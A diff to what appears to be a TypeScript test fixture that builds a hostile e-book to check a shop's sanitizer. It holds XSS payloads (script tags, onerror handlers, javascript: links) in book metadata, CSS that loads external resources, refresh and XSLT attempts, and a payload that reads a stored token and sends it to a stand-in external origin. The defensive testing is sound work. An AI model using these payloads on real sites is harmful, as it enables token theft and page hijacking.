@@ -21,9 +21,12 @@ const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAI
 /** An attempt that prevents the later attempts of a chapter, unless it is removed. */
 export type TerminalAttempt = 'refresh' | 'transform' | 'own policy';
 
-/** JavaScript statements without characters that markup has to escape. */
-const payload = (name: string, more = ''): string =>
-  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} try { new Image().src = '${EXTERNAL_ORIGIN}/token/' + localStorage.getItem('${TOKEN_KEY}') } catch (e) {} ${more}`;
+/**
+ * JavaScript statements without characters that markup has to escape. They also work where no storage can be read, and
+ * their last value replaces no document when they are a URL.
+ */
+export const payload = (name: string, more = ''): string =>
+  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} var secret = ''; try { secret = localStorage.getItem('${TOKEN_KEY}') } catch (e) {} new Image().src = '${EXTERNAL_ORIGIN}/token/' + secret; ${more} void 0`;
 
 /** An SVG image, used as a spine document and inline in a chapter. */
 export function hostileSvg(name = 'drawing'): string {
@@ -36,7 +39,10 @@ export const hostileStyles = (name = 'css'): string =>
   `@import "${EXTERNAL_ORIGIN}/${name}-import.css"; @import url(${EXTERNAL_ORIGIN}/${name}-import2.css); @font-face { font-family: ${name}; src: url(${EXTERNAL_ORIGIN}/${name}.woff2) } body { background: url("${EXTERNAL_ORIGIN}/${name}-body.png"); font-family: ${name} } p::before { content: url(${EXTERNAL_ORIGIN}/${name}-before.png) } i { background: image-set("${EXTERNAL_ORIGIN}/${name}-set.png" 1x); cursor: u\\72l(${EXTERNAL_ORIGIN}/${name}-escape.png), auto } p { behavior: url(x.htc) }`;
 
 /** The attempts of a chapter by name, in its head and in its body. */
-function attempts(endings: readonly TerminalAttempt[]): { head: Record<string, string>; body: Record<string, string> } {
+export function hostileAttempts(endings: readonly TerminalAttempt[]): {
+  head: Record<string, string>;
+  body: Record<string, string>;
+} {
   const written: Readonly<Record<TerminalAttempt, string>> = {
     refresh: `<meta http-equiv="refresh" content="0;url=${EXTERNAL_ORIGIN}/refresh"/>`,
     // An XSLT style sheet replaces the chapter by its output or by an error page. Its instruction precedes the root
@@ -94,7 +100,7 @@ function attempts(endings: readonly TerminalAttempt[]): { head: Record<string, s
 
 /** A chapter with every attempt, before sanitizing. */
 export function hostileChapter(endings: readonly TerminalAttempt[] = []): string {
-  const { head, body } = attempts(endings);
+  const { head, body } = hostileAttempts(endings);
   const transform = endings.includes('transform') ? '<?xml-stylesheet type="text/xsl" href="run.xsl"?>' : '';
   return `<?xml version="1.0" encoding="UTF-8"?>
 <?xml-stylesheet type="text/css" href="${EXTERNAL_ORIGIN}/pi.css"?>${transform}
@@ -113,7 +119,7 @@ const TERMINAL_ATTEMPTS: readonly TerminalAttempt[] = ['refresh', 'transform', '
 
 /** The number of attempts in the chapter, without those in the metadata and contents of the book. */
 export function countAttempts(): number {
-  const { head, body } = attempts(TERMINAL_ATTEMPTS);
+  const { head, body } = hostileAttempts(TERMINAL_ATTEMPTS);
   return Object.keys(head).length + Object.keys(body).length;
 }
 
@@ -121,7 +127,7 @@ export function countAttempts(): number {
 export async function importHostileBook(shop: Shop): Promise<{ slug: string; output: string }> {
   const name = `Mallory ${randomUUID().slice(0, 8)}`;
   const bytes = await createBook(`Peace <img src=x onerror="${payload('title')}">`, {
-    creators: [{ name: `<script>${payload('author')}</script>${name}` }],
+    creators: [{ name: `${name} <script>${payload('author')}</script>` }],
     subjects: [`Fiction <img src=x onerror="${payload('subject')}">`],
     description: `<p>Calm.</p><script>${payload('description')}</script><img src="${EXTERNAL_ORIGIN}/description.png" onerror="${payload('description picture')}"><a href="javascript:${payload('description link')}">link</a><form action="${EXTERNAL_ORIGIN}"><button>b</button></form><base href="${EXTERNAL_ORIGIN}/">`,
     documents: [
